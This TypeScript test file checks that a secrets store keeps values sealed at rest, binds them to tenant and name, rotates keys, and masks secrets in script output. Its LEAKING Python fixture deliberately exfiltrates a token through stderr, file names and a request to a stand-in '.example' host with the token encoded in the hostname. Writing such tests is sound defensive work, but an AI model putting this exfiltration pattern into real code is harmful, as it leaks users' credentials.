import { chmod, readFile, stat, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { createInProcessBus, subjects } from "@lilux/bus";
import { SYSTEM_CLOCK } from "@lilux/core/async";
import { createSecretStore, dumpTables } from "@lilux/database";
import { createLogger } from "@lilux/runtime";
import { describeInSandbox } from "@lilux/sandbox/testing";
import { eventually, temporaryDirectory, testTenant } from "@lilux/testkit";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { openTestDatabase, type TestDatabase } from "../testing/open-test-database.ts";
import { scriptSettingsOf } from "../testing/script-settings-of.ts";
import { errorOf, startKiwi } from "../testing/start-kiwi.ts";
import { commandMasterKey } from "./command-master-key.ts";
import { fileMasterKey } from "./file-master-key.ts";
import { createSecrets, type Secrets } from "./secrets.ts";

const VALUE = "s3cr3t/of+acme value";
const silent = createLogger({ service: "kiwi", level: "silent" });
const clock = { ...SYSTEM_CLOCK, unix: () => 1_800_000_000_000 };

let opened: TestDatabase;
beforeAll(async () => {
  opened = await openTestDatabase();
}, 120_000);
afterAll(() => opened.close());
// Wrapping all data keys anew is about every tenant of the database.
afterEach(async () => {
  const store = createSecretStore(opened.database);
  for (const { tenant } of await store.dataKeys({ after: "", limit: 100 })) {
    await store.forget(tenant);
  }
});

async function keyFolder() {
  const folder = await temporaryDirectory();
  const path = join(folder.path, "state", "secrets-key");
  const open = (): Secrets =>
    createSecrets({
      database: opened.database,
      masterKey: fileMasterKey({ path, isOurs: true }),
      clock,
      logger: silent,
    });
  return { folder, path, open };
}

const setting = (tenant: string, name: string, value: string, mustExist = false) =>
  ({ tenant: testTenant(tenant), name, value, mustExist, action: "set", by: "ada" }) as const;

async function dumped(): Promise<string> {
  const lines: string[] = [];
  await dumpTables(opened.database, async (line) => void lines.push(line));
  return lines.join("");
}

describe("secrets at rest", () => {
  it("makes a key for its owner alone at the first use, and keeps no value in the database", async () => {
    const { folder, path, open } = await keyFolder();
    await using _folder = { [Symbol.asyncDispose]: folder.remove };
    const secrets = open();
    expect((await secrets.manage({ tenant: testTenant("acme"), action: "list" })).secrets).toEqual(
      [],
    );
    await expect(stat(path)).rejects.toThrow("ENOENT");
    const { secrets: told } = await secrets.manage(setting("acme", "TOKEN", VALUE));
    expect(told).toEqual([
      {
        name: "TOKEN",
        version: 1,
        createdAt: clock.unix(),
        changedAt: clock.unix(),
        changedBy: "ada",
      },
    ]);
    expect((await stat(path)).mode & 0o777).toBe(0o600);
    const rows = await dumped();
    expect(rows).toContain("TOKEN");
    for (const form of [VALUE, Buffer.from(VALUE).toString("base64")])
      expect(rows).not.toContain(form);
    expect(await open().open(testTenant("acme"), ["TOKEN"])).toEqual({ TOKEN: VALUE });
    await chmod(path, 0o644);
    expect(await errorOf(open().open(testTenant("acme"), ["TOKEN"]))).toMatchObject({
      code: "secrets_unavailable",
    });
  });

  // Mutants: the tenant, or the name, left out of what a value is bound to.
  it("opens under its own tenant and name alone, whatever is moved about in the database", async () => {
    const { folder, open } = await keyFolder();
    await using _folder = { [Symbol.asyncDispose]: folder.remove };
    const secrets = open();
    await secrets.manage(setting("acme", "TOKEN", VALUE));
    await secrets.manage(setting("acme", "OTHER", "another value"));
    await secrets.manage(setting("rival", "TOKEN", "the rival's own"));
    // Mutant: `open` gives a script whatever it names.
    expect(await errorOf(secrets.open(testTenant("acme"), ["GIT_LIBRARY_TOKEN"]))).toMatchObject({
      code: "permission_denied",
      details: { secret: "GIT_LIBRARY_TOKEN" },
    });
    expect(await errorOf(secrets.open(testTenant("rival"), ["OTHER"]))).toMatchObject({
      code: "secret_missing",
    });
    const store = createSecretStore(opened.database);
    const [token] = await store.sealed({ tenant: testTenant("acme"), names: ["TOKEN"] });
    const rules = { mustExist: true, secretsMax: 10 };
    const moved = { sealed: token?.sealed ?? "", by: "eve", at: 1 };
    await store.put({ tenant: testTenant("acme"), name: "OTHER", ...moved }, rules);
    expect(await errorOf(secrets.open(testTenant("acme"), ["OTHER"]))).toMatchObject({
      code: "secrets_unavailable",
    });
    await store.put({ tenant: testTenant("rival"), name: "TOKEN", ...moved }, rules);
    expect(await errorOf(secrets.open(testTenant("rival"), ["TOKEN"]))).toMatchObject({
      code: "secrets_unavailable",
    });
    const [before, after] = [
      await store.dataKey(testTenant("rival")),
      await store.dataKey(testTenant("acme")),
    ];
    if (before !== undefined && after !== undefined) {
      expect(await store.rewrap({ tenant: testTenant("rival"), before, after })).toBe(true);
    }
    expect(await errorOf(secrets.open(testTenant("rival"), ["TOKEN"]))).toMatchObject({
      code: "secrets_unavailable",
    });
  });

  // Mutants: `retire` before the data keys are wrapped anew; `renew` left out.
  it("gets a new master key without any value being entered again, and forgets the old one", async () => {
    const { folder, path, open } = await keyFolder();
    await using _folder = { [Symbol.asyncDispose]: folder.remove };
    const secrets = open();
    await secrets.manage(setting("acme", "TOKEN", VALUE));
    await secrets.manage(setting("rival", "TOKEN", "the rival's own"));
    const before = await readFile(path, "utf8");
    const rows = await dumped();
    expect(
      (await secrets.manage({ tenant: testTenant("local"), action: "rewrap" })).rewrapped,
    ).toBe(2);
    expect(await readFile(path, "utf8")).toMatch(/^[0-9a-f]{64}\n$/);
    expect(await readFile(path, "utf8")).not.toBe(before);
    expect(await open().open(testTenant("acme"), ["TOKEN"])).toEqual({ TOKEN: VALUE });
    expect(await open().open(testTenant("rival"), ["TOKEN"])).toEqual({ TOKEN: "the rival's own" });
    const [, sealed = "none"] = /"sealed": ?"([^"]+)"/.exec(rows) ?? [];
    expect(await dumped()).toContain(sealed);
    await writeFile(path, before);
    const lost = await errorOf(open().open(testTenant("acme"), ["TOKEN"]));
    expect(lost).toMatchObject({ code: "secrets_unavailable" });
    expect(lost.message).not.toContain(before.trim());
  });

  it("takes a new value for a name that is there, and none for one that is not, that no run can have, or that cannot be masked", async () => {
    const { folder, open } = await keyFolder();
    await using _folder = { [Symbol.asyncDispose]: folder.remove };
    const secrets = open();
    const nothing = secrets.manage(setting("acme", "TOKEN", VALUE, true));
    expect(await errorOf(nothing)).toMatchObject({ code: "secret_missing" });
    await secrets.manage(setting("acme", "TOKEN", VALUE));
    const rotated = await secrets.manage(setting("acme", "TOKEN", "the next value", true));
    expect(rotated.secrets).toMatchObject([{ name: "TOKEN", version: 2 }]);
    expect(await secrets.open(testTenant("acme"), ["TOKEN"])).toEqual({ TOKEN: "the next value" });
    for (const [name, value] of [
      ["LD_PRELOAD", VALUE],
      ["PATH", VALUE],
      ["TOKEN", `a\0${VALUE}`],
      ["TOKEN", "ü".repeat(9_000)],
    ] as const) {
      const refused = await errorOf(secrets.manage(setting("acme", name, value)));
      expect(refused).toMatchObject({ code: "invalid_request" });
      expect(refused.message).not.toContain(VALUE);
    }
    await secrets.manage({ tenant: testTenant("acme"), name: "TOKEN", action: "remove" });
    expect(await errorOf(secrets.open(testTenant("acme"), ["TOKEN"]))).toMatchObject({
      code: "secret_missing",
    });
  });

  it("lets a key service wrap through a program, which is told the tenant and never on a command line the key", async () => {
    const { folder } = await keyFolder();
    await using _folder = { [Symbol.asyncDispose]: folder.remove };
    const service = join(folder.path, "kms");
    const said = join(folder.path, "said");
    await writeFile(
      service,
      `#!/bin/sh\necho "$@" >> ${said}\nread -r line\n[ "$2" = "broken" ] && { echo "$line" >&2; exit 3; }\necho "$line" | rev | tr '=' '-' | rev | tr -- '-' '='\n`,
    );
    await chmod(service, 0o755);
    const masterKey = commandMasterKey([service]);
    const secrets = createSecrets({ database: opened.database, masterKey, clock, logger: silent });
    await secrets.manage(setting("acme", "TOKEN", VALUE));
    expect(await secrets.open(testTenant("acme"), ["TOKEN"])).toEqual({ TOKEN: VALUE });
    expect(await readFile(said, "utf8")).toBe("wrap acme\nunwrap acme\n");
    const failed = await errorOf(secrets.manage(setting("broken", "TOKEN", VALUE)));
    expect(failed).toMatchObject({ code: "secrets_unavailable" });
    expect(failed.message).toMatch(/wrap failed \(3\)/);
  });
});

const LEAKING = `"""Tells what it was given, in every way it can."""
__secrets__ = ["TOKEN"]
__permissions__ = [{"verb": "write", "resource": "filesystem", "path": "out/**"},
                   {"verb": "connect", "resource": "network"}]
import base64, json, os, pathlib, sys, urllib.parse, urllib.request
token = os.environ["TOKEN"]
print(token, file=sys.stderr)
print("Basic " + base64.b64encode(("user:" + token).encode()).decode(), file=sys.stderr)
print("x" * 1985 + token, file=sys.stderr)
out = pathlib.Path(os.environ["LILUX_OUTPUT_DIR"])
(out / "report.txt").write_text("token: " + token)
(out / token.encode().hex()).write_text("named")
pathlib.Path("/project/out/kept.txt").write_text("harmless")
pathlib.Path("/project/out/told.txt").write_text("x" + token[::-1])
try:
    urllib.request.urlopen("http://" + token.encode().hex() + ".example", timeout=5)
except Exception as error:
    pass
print(json.dumps({"isGiven": token == ${JSON.stringify(VALUE)}, "plain": token, token: 1, "url": urllib.parse.quote(token, safe="")}))
`;

describeInSandbox("secrets in a run", () => {
  // Mutants: a line that was cut masked as a whole one; `onLine`, the artifacts' bytes, the staged files, `onRefusedHost` without the mask.
  it("reach the script that declares them, and are in nothing that comes of the run", async () => {
    const logged: string[] = [];
    const logger = createLogger({
      service: "kiwi",
      level: "debug",
      destination: { write: (text: string) => void logged.push(text) },
    });
    const bus = createInProcessBus();
    const state = await temporaryDirectory();
    await using _state = { [Symbol.asyncDispose]: state.remove };
    await using started = await startKiwi(
      { "project/.ai/scripts/tell.py": LEAKING, "project/out/there.txt": "there" },
      { stateDirectory: state.path, ...scriptSettingsOf({ LILUX_SCRIPT_NETWORK: "local" }) },
      { database: opened.database, logger, bus },
    );
    await chmod(started.path, 0o755);
    await chmod(join(started.path, "project", "out"), 0o777);
    const given = { item_type: "script", item_id: "tell", action: "run" } as const;
    const absent = await errorOf(started.execute({ arguments: given }));
    expect(absent).toMatchObject({ code: "secret_missing", details: { secret: "TOKEN" } });
    await started.kiwi.api.secrets(setting("local", "TOKEN", VALUE));
    const { result, progress } = await started.execute({ arguments: given });
    expect(result).toMatchObject({
      status: "success",
      data: { isGiven: true, plain: "[secret TOKEN]", "[secret TOKEN]": 1, url: "[secret TOKEN]" },
      metadata: {
        files: {
          written: ["out/kept.txt"],
          refused: [{ path: "out/told.txt", reason: "holds a secret of the run" }],
        },
      },
    });
    expect(progress[0]).toBe("[secret TOKEN]");
    const [report] = result.artifacts?.filter(({ name }) => name === "report.txt") ?? [];
    const kept = await readFile(join(started.path, "project", report?.path ?? ""), "utf8");
    expect(kept).toBe("token: [secret TOKEN]");
    const recalled = await started.kiwi.api.recallRun({
      tenant: testTenant("local"),
      callId: "call-2",
    });
    const audit = await eventually(
      async () => {
        const read = { messagesMax: 100, deadlineMs: 1_000 };
        const stored = await bus.read("AUDIT", subjects.audit(testTenant("local")), read);
        expect(JSON.stringify(stored)).toContain("succeeded");
        return JSON.stringify(stored);
      },
      { withinMs: 20_000 },
    );
    expect(audit).toContain("example");
    const all = [
      JSON.stringify(result),
      JSON.stringify(recalled),
      audit,
      progress.join(),
      logged.join(),
    ];
    const hex = Buffer.from(VALUE).toString("hex");
    const forms = [VALUE, hex, [...VALUE].reverse().join(""), encodeURIComponent(VALUE)];
    for (const text of all) for (const form of forms) expect(text).not.toContain(form);
    // A line that is too long is cut, here in the middle of the value.
    expect(progress[2]).toBe(`${"x".repeat(1985)}[secret TOKEN]`);
    for (const text of all) expect(text).not.toContain(VALUE.slice(0, 8));
    expect(logged.join()).toContain("secret changed");
  });

  it("are shown to whoever is asked about a script's first run", async () => {
    await using started = await startKiwi({ "project/.ai/scripts/kept.py": "print('{}')" });
    await started.execute({
      by: "model",
      tainted: false,
      arguments: {
        item_type: "script",
        item_id: "fresh",
        action: "create",
        parameters: { content: '"""New."""\n__secrets__ = ["TOKEN"]\nprint("{}")\n' },
      },
    });
    const run = { item_type: "script", item_id: "fresh", action: "run" } as const;
    const asked = await errorOf(started.execute({ arguments: run }));
    expect(asked).toMatchObject({ code: "confirm_required", details: { secrets: ["TOKEN"] } });
    expect(asked.message).toContain("It is given the secrets TOKEN.");
  });
});
